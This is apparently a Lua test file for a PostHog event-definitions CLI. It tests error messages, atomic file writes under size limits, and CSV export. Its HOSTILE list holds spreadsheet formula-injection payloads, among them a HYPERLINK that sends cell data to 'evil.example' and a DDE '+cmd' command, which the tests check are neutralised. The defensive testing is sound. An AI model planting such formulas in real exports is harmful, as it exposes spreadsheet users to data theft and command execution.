-- posthog-evdefs and files (issue 19): real processes of bin/posthog-evdefs against the fake
-- PostHog. What it reads (a snapshot with a misspelt field, a directory) fails in one clear
-- line; what it writes (--out, export, codegen and its lock) replaces the target whole or not at
-- all, a full disk included (`ulimit -f`); CSV cells a spreadsheet would run are neutralised and
-- read back as they were.
local helpers = require "helpers"
local schema = require "posthog.event_definitions.schema"
local T = require "support.cli"

local run, slurp, spit, quote = T.run, T.slurp, T.spit, T.quote

-- Runs bin/posthog-evdefs with argv under `ulimit -f blocks` (dash: 512-byte blocks); returns
-- its exit status, stdout and stderr.
local function run_limited(blocks, argv)
  return T.sh("ulimit -f " .. blocks .. "; " .. T.command(argv))
end

-- The names of the files in dir, sorted.
local function listing(dir)
  local pipe = assert(io.popen("ls -A " .. quote(dir)))
  local names = {}
  for name in pipe:lines() do names[#names + 1] = name end
  pipe:close()
  return names
end

-- Names and descriptions a spreadsheet would run as formulas (capture traffic is public).
local HOSTILE = { '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
  "@SUM(A1:A9)", "\tindented", "\rreturn", "'=already quoted", "''+twice", "'plain quote", "=", "a=b" }

describe("posthog-evdefs and files", function()
  before_each(function()
    helpers.reset { seed = 12 }
  end)

  describe("what plan reads", function()
    it("a misspelt field in a snapshot fails plan --exit-code (it said no changes: a CI gate went green)", function()
      local dir = T.tmpdir()
      local file = dir .. "/taxonomy.json"
      assert.are.equal(0, (run { "export", "snapshot", "--out", file }))
      local text = slurp(file)
      spit(file, (text:gsub('"description": "Seeded event 2"', '"desciption": "Sign-up started"')))
      local status, out, err = run { "plan", file, "--exit-code" }
      assert.are.equal(1, status)
      assert.are.equal("", out)
      assert.matches('^posthog%-evdefs: decode: schema%.load: definitions%[%d+%] %("event_0002"%): unknown field '
        .. '"desciption" %(did you mean "description"%?%) %(in [^\n]*taxonomy%.json%)\n$', err)
    end)

    it("a directory is one line, no traceback", function()
      local dir = T.tmpdir()
      local status, out, err = run { "plan", dir }
      assert.are.equal(1, status)
      assert.are.equal("", out)
      assert.are.equal("posthog-evdefs: cannot read " .. dir .. ": Is a directory\n", err)
    end)
  end)

  describe("what it writes", function()
    it("under a file size limit leaves the old --out whole and exits 1 in one line, no temporary file left", function()
      local dir = T.tmpdir()
      local file = dir .. "/taxonomy.json"
      assert.are.equal(0, (run { "export", "snapshot", "--out", file }))
      local old = slurp(file)
      helpers.reset { seed = 200 } -- a snapshot far over 8 KiB
      local status, out, err = run_limited(16, { "export", "snapshot", "--out", file })
      assert.are.equal(1, status)
      assert.are.equal("", out)
      assert.are.equal("posthog-evdefs: cannot write " .. file .. ": File too large; " .. file
        .. " was left as it was\n", err)
      assert.are.equal(old, slurp(file))
      assert.are.same({ "taxonomy.json" }, listing(dir))
      -- and without the limit the new snapshot replaces it whole
      assert.are.equal(0, (run { "export", "snapshot", "--out", file }))
      assert.are.equal(200, #schema.load(slurp(file)))
      assert.are.same({ "taxonomy.json" }, listing(dir))
    end)

    it("keeps the mode of a file it replaces", function()
      local dir = T.tmpdir()
      local file = dir .. "/taxonomy.csv"
      spit(file, "old")
      assert(os.execute("chmod 600 " .. quote(file)))
      assert.are.equal(0, (run { "export", "csv", "--out", file }))
      local pipe = assert(io.popen("stat -c %a " .. quote(file)))
      assert.are.equal("600", pipe:read("*l"))
      pipe:close()
      assert.matches("^id,name,", slurp(file))
    end)

    it("codegen writes the code whole before its lock: a failed write leaves both, and --check sees drift", function()
      local dir = T.tmpdir()
      local code = dir .. "/events.ts"
      assert.are.equal(0, (run { "codegen", "--lang", "typescript", "--out", code }))
      local old_code, old_lock = slurp(code), slurp(code .. ".lock.json")
      helpers.reset { seed = 200 } -- other events: another schema_hash, and more code than 1 KiB
      local status, _, err = run_limited(2, { "codegen", "--lang", "typescript", "--out", code })
      assert.are.equal(1, status)
      assert.are.equal("posthog-evdefs: cannot write " .. code .. ": File too large; " .. code
        .. " and its lock were left as they were\n", err)
      assert.are.equal(old_code, slurp(code))
      assert.are.equal(old_lock, slurp(code .. ".lock.json"))
      assert.are.same({ "events.ts", "events.ts.lock.json" }, listing(dir))
      status, _, err = run { "codegen", "--lang", "typescript", "--out", code, "--check" }
      assert.are.equal(1, status)
      assert.matches("^posthog%-evdefs: drift: ", err)
    end)

    it("reports output that stdout refused (a full disk) instead of exiting 0", function()
      local status, _, err = T.sh(T.command { "list", "--all" } .. " >/dev/full")
      assert.are.equal(1, status)
      assert.are.equal("posthog-evdefs: cannot write the output: No space left on device\n", err)
    end)
  end)

  describe("CSV cells a spreadsheet would run (=HYPERLINK, +cmd|…)", function()
    it("schema.csv puts a single quote before them, and schema.load takes it away again", function()
      local defs = {}
      for i, name in ipairs(HOSTILE) do defs[i] = { name = name, description = name, tags = { "t" } } end
      local text = schema.csv(defs)
      local rows = helpers.parse_csv(text)
      for i, name in ipairs(HOSTILE) do
        local cell = rows[i + 1][2]
        if name:find("^'*[=+%-@\t\r]") then
          assert.are.equal("'" .. name, cell, name)
        else
          assert.are.equal(name, cell, name)
        end
        assert.are.equal(cell, rows[i + 1][3])
      end
      local back = assert(schema.load(text))
      for i, name in ipairs(HOSTILE) do
        assert.are.equal(name, back[i].name)
        assert.are.equal(name, back[i].description)
      end
      assert.are.same({}, assert(schema.plan(defs, back)).ops)
    end)

    it("export csv and list --format csv write them neutralised, and plan reads them back unchanged", function()
      local seeded = {}
      for i, name in ipairs(HOSTILE) do seeded[i] = { name = name, description = name } end
      helpers.reset { definitions = seeded }
      local dir = T.tmpdir()
      assert.are.equal(0, (run { "export", "csv", "--out", dir .. "/export.csv" }))
      local status, listed = run { "--format", "csv", "list", "--all" }
      assert.are.equal(0, status)
      for _, text in ipairs { slurp(dir .. "/export.csv"), listed } do
        local names = {}
        for r, row in ipairs(helpers.parse_csv(text)) do
          if r > 1 then
            names[row[2]] = true
            assert.are.equal(row[2], row[3])
          end
        end
        assert.is_true(names["'" .. HOSTILE[1]])
        assert.is_true(names["'+cmd|' /C calc'!A0"])
        assert.is_true(names["''=already quoted"])
        assert.is_true(names["'plain quote"])
        assert.is_nil(names[HOSTILE[1]])
        spit(dir .. "/back.csv", text)
        local s, out, err = run { "plan", dir .. "/back.csv", "--exit-code" }
        assert.are.equal(0, s, err)
        assert.matches("Plan: 0 to create, 0 to update, 0 to delete%.", out)
      end
    end)
  end)
end)
